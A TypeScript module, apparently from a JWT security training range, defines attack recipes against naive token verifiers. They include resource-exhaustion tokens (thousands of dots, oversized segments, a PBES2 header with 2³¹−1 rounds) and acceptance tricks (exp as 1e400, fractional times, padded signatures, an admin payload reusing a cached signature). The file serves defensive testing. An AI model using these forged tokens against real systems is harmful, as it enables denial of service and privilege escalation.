import { base64url, encodeSegment, joinToken, splitToken } from "@/lib/threats/jwt-range/forge";
import { asAdmin, type Attack } from "@/lib/threats/jwt-range/recipe";

/**
 * The 2025–26 classes about limits and spelling: what a verifier must bound (size, dots, PBES2
 * rounds), which numbers it may take as times, the one spelling of a token, and what its memo may
 * be keyed on. Those marked `harm: "work"` are denial of service: the naive verifier refuses the
 * token too, but only after work whose size the attacker chose.
 */

function randomBytes(length: number): Uint8Array {
  return crypto.getRandomValues(new Uint8Array(length));
}

const RESOURCES: Attack[] = [
  {
    id: "many_dots",
    title: "Thousands of dots",
    how: "A genuine token followed by 6,000 dots: a parser that splits on every dot before counting makes 6,003 pieces.",
    harm: "work",
    exploits: "no_size_limit",
    build: async (m) => ({
      token: `${await m.issue("fresh")}${".".repeat(6000)}`,
      target: "access",
    }),
  },
  {
    id: "huge_segment",
    title: "A segment of many kilobytes",
    how: "A genuine header and signature around a 12 KB payload of junk (here as large as the range's request limit lets it be; megabytes elsewhere).",
    harm: "work",
    exploits: "no_size_limit",
    build: async (m) => {
      const [header = "", , signature = ""] = (await m.issue("fresh")).split(".");
      const junk = base64url(randomBytes(9_000));
      return { token: `${header}.${junk}.${signature}`, target: "access" };
    },
  },
  {
    id: "pbes2_p2c",
    title: "PBES2 with p2c = 2,147,483,647",
    how: "A JWE whose header asks for password-based key wrapping with 2³¹−1 PBKDF2 rounds: the cost is paid before any key is tried. The other segments are junk.",
    harm: "work",
    exploits: "unbounded_p2c",
    build: async () => {
      const header = encodeSegment({
        alg: "PBES2-HS256+A128KW",
        enc: "A128GCM",
        p2c: 2_147_483_647,
        p2s: base64url(randomBytes(16)),
      });
      const junk = [24, 12, 32, 16].map((n) => base64url(randomBytes(n)));
      return { token: [header, ...junk].join("."), target: "access" };
    },
  },
];

const SPELLING: Attack[] = [
  {
    id: "exp_infinite",
    title: "exp: 1e400",
    how: 'A genuine token whose issuer wrote "never expires" as exp: 1e400 — Infinity once parsed, later than every clock.',
    harm: "accepted",
    exploits: "loose_numbers",
    build: async (m) => ({ token: await m.issue("forever"), target: "access" }),
  },
  {
    id: "exp_fraction",
    title: "Fractional times",
    how: "A genuine token whose issuer computed iat and exp in floating point: exp ends in .5, no whole second.",
    harm: "accepted",
    exploits: "loose_numbers",
    build: async (m) => ({ token: await m.issue("fractional"), target: "access" }),
  },
  {
    id: "padded_signature",
    title: "Signature with == padding",
    how: "A genuine token with == added to its signature: the same bytes in a second spelling.",
    harm: "accepted",
    exploits: "lenient_base64",
    build: async (m) => {
      const genuineToken = await m.issue("fresh");
      return { token: `${genuineToken}==`, target: "access", genuine: genuineToken };
    },
  },
  {
    id: "memo_collision",
    title: "Two tokens, one memo entry",
    how: "A genuine token is verified first (the server remembers it); then a copy with an admin payload and the same signature, which a memo keyed on the signature alone calls already verified.",
    harm: "accepted",
    exploits: "memo_by_signature",
    build: async (m) => {
      const warm = await m.issue("fresh");
      const parts = splitToken(warm)!;
      return {
        token: joinToken({ ...parts, payload: asAdmin(parts.payload) }),
        target: "access",
        warm,
      };
    },
  },
];

export const ATTACKS_ON_LIMITS: readonly Attack[] = [...RESOURCES, ...SPELLING];
